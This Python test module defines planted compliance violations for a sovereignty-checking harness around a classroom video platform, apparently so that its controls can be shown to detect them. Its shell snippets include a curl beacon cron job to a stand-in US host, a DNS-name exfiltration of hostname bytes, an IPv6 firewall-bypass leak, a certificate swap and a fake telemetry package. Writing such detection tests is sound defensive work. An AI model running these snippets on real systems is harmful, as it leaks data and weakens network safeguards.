"""The planted violations: what is injected where, which controls must detect it, and which evidence it affects."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from classroom.config.guest import CODENAME
from classroom.config.ports import RELAY, port_number
from rehearsal.cloud_config import API
from rehearsal.outside_hosts import US
from tests.planted.control_runner import ALL
from tests.planted.gate import Refusal
from tests.planted.injectors import InCloud, InEnvironment, Injector, InStackFile, OnHost, OnOperatorsMachine

NETWORK4, NETWORK6 = US.network4, US.network6
CDN, CDN4, CDN6 = US.name("cdn"), *US.addresses("cdn")
SPARE4 = "192.0.2.140"
"""An address of the US networks that none of their hosts uses."""

RESTART_LIVEKIT = f"""
systemctl restart livekit
for n in $(seq 100); do ss -Hltn sport = :{port_number("turn-tls")} | grep -q . && exit 0; sleep 0.2; done; exit 1
"""
BACK_UP_LIVEKIT = "mkdir -p /root/planted-livekit && cp -p /etc/classroom/livekit.yaml /root/planted-livekit/\n"
RESTORE_LIVEKIT = (
    "cat /root/planted-livekit/livekit.yaml > /etc/classroom/livekit.yaml && rm -r /root/planted-livekit\n"
    + RESTART_LIVEKIT
)
RESTART_RELAY = RESTART_LIVEKIT.replace("restart livekit", "restart relay")
RESTORE_RELAY = (
    "cat /root/planted-relay/relay.json > /etc/classroom/relay.json && rm -r /root/planted-relay\n" + RESTART_RELAY
)


def changed_relay(settings: str) -> str:
    """Return a script that changes settings of the relay, given as arguments of `dict`, and restarts it."""
    program = (
        "import json, pathlib; f = pathlib.Path('/etc/classroom/relay.json');"
        f" f.write_text(json.dumps(json.loads(f.read_text()) | dict({settings})))"
    )
    return (
        "mkdir -p /root/planted-relay && cp -p /etc/classroom/relay.json /root/planted-relay/\n"
        f'python3 -c "{program}"\n' + RESTART_RELAY
    )


RESTORE_FIREWALL = "systemctl reload nftables\n"

CRON = """
cat > /etc/cron.d/planted <<'END'
* * * * * root for n in $(seq 29); do curl -sk -m 1 --resolve {cdn}:443:{cdn4} https://{cdn}/beacon; sleep 1; done
END
for n in $(seq 140); do ps -eo args= | grep -q '^[c]url.*beacon' && exit 0; sleep 0.5; done; exit 1
"""
CRON_REVERT = """
rm /etc/cron.d/planted
for pid in $(ps -eo pid=,args= | awk '/[b]eacon/ {print $1}'); do kill "$pid" 2>/dev/null || true; done
sleep 2
"""
LEAK6 = """
nft insert rule inet classroom egress ip6 daddr {network6} accept
cat > /root/planted.py <<'END'
import socket, struct, time
while True:
    try:
        with socket.create_connection(("{cdn6}", 443), 3) as leak:
            # Close without TIME_WAIT, so that the connection leaves the host's list at once.
            leak.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            time.sleep(5)
    except OSError:
        time.sleep(0.5)
END
systemd-run --quiet --collect --unit=planted-leak python3 /root/planted.py
for n in $(seq 40); do ss -Htn dst [{cdn6}] | grep -q . && exit 0; sleep 0.5; done; exit 1
"""
LEAK6_REVERT = "systemctl stop planted-leak; rm -f /root/planted.py\n" + RESTORE_FIREWALL
ADD_EGRESS_RULE = """
for port in c.network.ports(device_id=servers['{group}']):
    c.network.create_security_group_rule(
        security_group_id=port.security_group_ids[0], direction='egress', description='planted', {rule}
    )
"""
REMOVE_EGRESS_RULES = """
for rule in list(c.network.security_group_rules(direction='egress')):
    if rule.description == 'planted':
        c.network.delete_security_group_rule(rule)
"""
DNS_TUNNEL = """
mkdir -p /root/planted-dns && cp -p /etc/unbound/unbound.conf /root/planted-dns/
sed -i -e '/^rpz:/,/zonefile/d' -e 's/local-zone: "." refuse/local-zone: "." transparent/' \
  -e 's/module-config: .*/module-config: "iterator"/' /etc/unbound/unbound.conf
unbound-checkconf >/dev/null && systemctl restart unbound
secret=$(head -c 12 /etc/hostname | od -An -tx1 | tr -d ' \\n')
getent ahosts "$secret.{zone}" >/dev/null || true
"""
DNS_TUNNEL_REVERT = """
cat /root/planted-dns/unbound.conf > /etc/unbound/unbound.conf && rm -r /root/planted-dns && systemctl restart unbound
"""
FONT = """
mkdir -p /root/planted-page && cp -p /srv/classroom/index.html /etc/nginx/nginx.conf /root/planted-page/
sed -i 's#</head>#<link rel="stylesheet" href="https://{cdn}/font.css" /></head>#' /srv/classroom/index.html
sed -i -e "s#style-src 'self'#style-src 'self' https://{cdn}#" -e "s#font-src 'self'#font-src 'self' https://{cdn}#" \
  /etc/nginx/nginx.conf
grep -q {cdn} /srv/classroom/index.html && nginx -t -q && systemctl reload nginx
"""
FONT_REVERT = """
cat /root/planted-page/index.html > /srv/classroom/index.html
cat /root/planted-page/nginx.conf > /etc/nginx/nginx.conf
rm -r /root/planted-page && systemctl reload nginx
"""
CERTIFICATE = """
mkdir -p /root/planted-tls && cp -p /etc/classroom/tls/fullchain.pem /etc/classroom/secrets/tls.key /root/planted-tls/
cat > /etc/classroom/tls/fullchain.pem <<'END'
{us_certificate}
END
cat > /etc/classroom/secrets/tls.key <<'END'
{us_key}
END
systemctl reload nginx && sleep 1
"""
CERTIFICATE_REVERT = """
cat /root/planted-tls/fullchain.pem > /etc/classroom/tls/fullchain.pem
cat /root/planted-tls/tls.key > /etc/classroom/secrets/tls.key
rm -r /root/planted-tls && systemctl reload nginx && sleep 1
"""
TELEMETRY = """
mkdir -p /root/planted-package/popularity-contest/DEBIAN && cd /root/planted-package
printf 'Package: popularity-contest\\nVersion: 1.77\\nArchitecture: all\\nMaintainer: example <example@{zone}>\\n' \
  > popularity-contest/DEBIAN/control
echo 'Description: reports which packages are used' >> popularity-contest/DEBIAN/control
dpkg-deb --build popularity-contest planted.deb >/dev/null && dpkg --install planted.deb >/dev/null
"""
TELEMETRY_REVERT = "dpkg --purge popularity-contest >/dev/null; rm -r /root/planted-package"
US_MIRROR = """
cat > /etc/apt/sources.list.d/planted.sources <<'END'
Types: deb
URIs: http://mirror.{zone}/debian
Suites: {codename}
Components: main
Signed-By: /usr/share/keyrings/debian-archive-keyring.pgp
END
""".replace("{codename}", CODENAME)
NTP_POOL = """
cp -p /etc/chrony/chrony.conf /etc/chrony/chrony.conf.planted
echo 'pool pool.{zone} iburst' >> /etc/chrony/chrony.conf && systemctl restart chrony
"""
NTP_POOL_REVERT = """
cat /etc/chrony/chrony.conf.planted > /etc/chrony/chrony.conf
rm /etc/chrony/chrony.conf.planted && systemctl restart chrony
"""
SECOND_REGION = """
c.identity.create_region(id='lille')
for service in c.identity.services():
    for one in list(c.identity.endpoints(service_id=service.id, interface='public')):
        path = '/lille' if service.type == 'compute' else ''
        c.identity.create_endpoint(
            service_id=service.id, interface='public', region_id='lille', url=one.url.rstrip('/') + path
        )
"""
SECOND_REGION_REVERT = """
for one in list(c.identity.endpoints(region_id='lille')):
    c.identity.delete_endpoint(one)
for region in c.identity.regions():
    if region.id == 'lille':
        c.identity.delete_region(region)
"""
UP = "pulumi up --yes --skip-preview --suppress-outputs --non-interactive --stack rehearsal"


@dataclass(frozen=True)
class PlantedViolation:
    """One planted violation: `failing` are the controls that must detect it, `collected` those whose evidence it affects.

    With `new_class` it affects the background class itself, which is then started again. `gate` is a plan with the same violation,
    which `pulumi preview` must refuse. `sides` are the verdicts that every wrong destination must carry, by control.
    """

    name: str
    injectors: tuple[Injector, ...]
    failing: frozenset[str]
    collected: frozenset[str]
    new_class: bool = False
    gate: Refusal | None = None
    sides: Mapping[str, Mapping[str, str]] | None = None

    @property
    def where(self) -> str:
        """Return where the violation is injected."""
        places = dict.fromkeys(injector.where for injector in self.injectors)
        return ", ".join([*places, *(["plan"] if self.gate and "plan" not in places else [])])


def _violation(name: str, *injectors: Injector, failing: str, passing: str = "", **more: Any) -> PlantedViolation:
    """Return a planted violation.

    `failing` and `passing` are names of controls, separated by spaces, whose evidence is collected; those in `passing` must still
    pass. `all` collects the evidence of all controls.
    """
    collected = ALL if passing == "all" else frozenset({*failing.split(), *passing.split()})
    return PlantedViolation(name, injectors, frozenset(failing.split()), collected, **more)


def _british_parent(settings: dict[str, Any]) -> dict[str, Any]:
    operator = {"name": "Example Molnet AB", "country": "SE"}
    return {
        "declared_cloud": settings["declared_cloud"]
        | {"operator": operator, "parent": {"name": "Example Capital plc", "country": "GB"}}
    }


def _american_operator(settings: dict[str, Any]) -> dict[str, Any]:
    company = {"country": "US", "dpf": "yes"}
    label = {
        "prefixes": [f"{API}/32", "203.0.113.0/24", "2001:db8:30::/64"],
        "country": "FR",
        "operator": {"name": "Example Web Services SARL", **company},
        "parent": {"name": "Example Web Services, Inc.", **company},
    }
    return {"overlay": [*settings.get("overlay", []), label]}


def _region_lille(settings: dict[str, Any]) -> dict[str, Any]:
    cloud = settings["declared_cloud"]
    region = {"name": "lille", "city": "Lille", "country": "FR"}
    return {"region": "lille", "declared_cloud": cloud | {"regions": [*cloud["regions"], region]}}


PLANTED_VIOLATIONS = (
    # Changes of the stack's file come first: they need no new background class.
    _violation(
        "EU soil, US operator (the CNED's virtual class of 2020)",
        InStackFile(_american_operator),
        failing="addresses ice page-requests pulumi",
        passing="all",
        sides={"addresses": {"soil": "eu", "operator": "third", "parent": "third"}},
    ),
    _violation(
        "a Swedish seat with a British parent",
        InStackFile(_british_parent),
        failing="cloud-region addresses ice page-requests pulumi",
        passing="all",
        gate=Refusal(("parent", "ICG plc", "United Kingdom"), {"region": "Kna1"}, "https://kna1.citycloud.com:5000/v3"),
        sides={"addresses": {"soil": "eu", "operator": "eu", "parent": "adequate"}},
    ),
    _violation(
        "a region with a false location",
        InCloud(SECOND_REGION, SECOND_REGION_REVERT),
        InStackFile(_region_lille),
        failing="cloud-region",
        passing="egress-drop pulumi",
        gate=Refusal(
            ("region: 'eu-west-eri'", "Erith, United Kingdom"),
            {"region": "eu-west-eri"},
            "https://auth.cloud.ovh.net/v3",
        ),
    ),
    _violation(
        "a state backend in the US",
        InEnvironment({"PULUMI_BACKEND_URL": "s3://states?region=us-east-1"}),
        failing="pulumi",
        gate=Refusal(("backend: 's3://states?region=us-east-1'", "Amazon.com, Inc."), bucket=True),
    ),
    _violation(
        "a plugin that Pulumi downloaded by itself",
        OnOperatorsMachine(
            'mkdir -p "$PULUMI_HOME/plugins/resource-planted-v1.0.0"',
            'rmdir "$PULUMI_HOME/plugins/resource-planted-v1.0.0"',
        ),
        failing="pulumi",
    ),
    # Violations on hosts that need no background class.
    _violation(
        "FallbackDNS",
        OnHost(
            "media",
            "printf '[Resolve]\\nFallbackDNS={dns4}\\n' > /etc/systemd/resolved.conf.d/99-planted.conf",
            "rm /etc/systemd/resolved.conf.d/99-planted.conf",
        ),
        failing="resolver",
    ),
    _violation("data in DNS names", OnHost("front", DNS_TUNNEL, DNS_TUNNEL_REVERT), failing="resolver"),
    _violation("an NTP pool", OnHost("media", NTP_POOL, NTP_POOL_REVERT), failing="time"),
    _violation(
        "packages from a US mirror",
        OnHost("front", US_MIRROR, "rm /etc/apt/sources.list.d/planted.sources"),
        failing="packages",
    ),
    _violation("a package that reports home", OnHost("media", TELEMETRY, TELEMETRY_REVERT), failing="telemetry"),
    _violation(
        "a machine with an address of a US network",
        OnHost("front", f"ip address add {SPARE4}/32 dev lo", f"ip address del {SPARE4}/32 dev lo"),
        failing="addresses",
    ),
    _violation("a certificate of a US authority", OnHost("front", CERTIFICATE, CERTIFICATE_REVERT), failing="issuers"),
    _violation(
        "a security group that allows all egress",
        InCloud(ADD_EGRESS_RULE.replace("{group}", "media").replace("{rule}", "ethertype='IPv4'"), REMOVE_EGRESS_RULES),
        failing="egress-drop",
    ),
    # Violations that show only during a class.
    _violation(
        "a font from a CDN in the page",
        OnHost("front", FONT, FONT_REVERT, where="page"),
        failing="page-requests",
        new_class=True,
    ),
    _violation(
        "a cron job that calls a US host",
        OnHost("front", CRON, CRON_REVERT),
        failing="host-connections",
        new_class=True,
        sides={"host-connections": {"soil": "third", "operator": "third", "parent": "third"}},
    ),
    _violation(
        "a leak over IPv6 only",
        InCloud(
            ADD_EGRESS_RULE.replace("{group}", "front").replace(
                "{rule}", f"ethertype='IPv6', protocol='tcp', remote_ip_prefix='{NETWORK6}'"
            ),
            REMOVE_EGRESS_RULES,
        ),
        OnHost("front", LEAK6, LEAK6_REVERT),
        failing="egress-drop host-connections",
        new_class=True,
    ),
    _violation(
        "LiveKit without a TURN server of its own",
        OnHost(
            "media",
            BACK_UP_LIVEKIT
            + "sed -i '/^  turn_servers:/,/^#/{/^#/!d}' /etc/classroom/livekit.yaml\n"
            + RESTART_LIVEKIT,
            RESTORE_LIVEKIT,
        ),
        failing="ice",
        passing="page-requests",
        new_class=True,
    ),
    _violation(
        "a TURN relay to an unknown host",
        InCloud(
            ADD_EGRESS_RULE.replace("{group}", "media").replace(
                "{rule}", "ethertype='IPv4', protocol='udp', remote_ip_prefix='198.51.100.0/24'"
            ),
            REMOVE_EGRESS_RULES,
        ),
        OnHost(
            "media",
            f"nft insert rule inet classroom egress udp sport {RELAY[0]}-{RELAY[1]} meta skuid relay accept\n"
            + changed_relay("peers=['198.51.100.0/24'], peer_ports=[1, 65535]"),
            RESTORE_FIREWALL + RESTORE_RELAY,
        ),
        failing="ice egress-drop host-connections",
        new_class=True,
    ),
    _violation(
        "a TURN relay without a limit for each participant",
        OnHost("media", changed_relay("relays_per_person=1000"), RESTORE_RELAY),
        failing="ice",
        new_class=True,
    ),
    # Last, as it changes the recorded connections of the operator's machine.
    _violation(
        "a program that calls home during `up`",
        OnOperatorsMachine(
            f"classroom capture --stack rehearsal -- sh -c '{UP}; curl -sS -m 5 -o /dev/null https://{CDN}/'",
            f"classroom capture --stack rehearsal -- {UP}",
        ),
        failing="pulumi",
    ),
)


def violation_groups(violations: Sequence[PlantedViolation]) -> list[tuple[PlantedViolation, ...]]:
    """Return the violations in groups that share a run of their controls, each group where its first one is in the list.

    Violations of a group affect different evidence, so that each control proves one of them. What changes the stack's file, the
    operator's machine or its environment is alone.
    """
    found: list[list[PlantedViolation]] = []
    for violation in violations:
        group = next((group for group in found if all(_apart(violation, other) for other in group)), None)
        if group is None:
            found.append([violation])
        else:
            group.append(violation)
    return [tuple(group) for group in found]


def _apart(one: PlantedViolation, other: PlantedViolation) -> bool:
    return (
        not one.collected & other.collected
        and one.new_class == other.new_class
        and all(isinstance(injector, OnHost | InCloud) for injector in (*one.injectors, *other.injectors))
        and not (one.gate or other.gate)
        and sum(isinstance(injector, InCloud) for injector in (*one.injectors, *other.injectors)) <= 1
    )


VALUES = {
    "cdn": CDN,
    "cdn4": CDN4,
    "cdn6": CDN6,
    "dns4": US.addresses("dns")[0],
    "network6": NETWORK6,
    "zone": US.zone,
}
"""Values for the braces in scripts; the run adds a certificate of the US authority."""
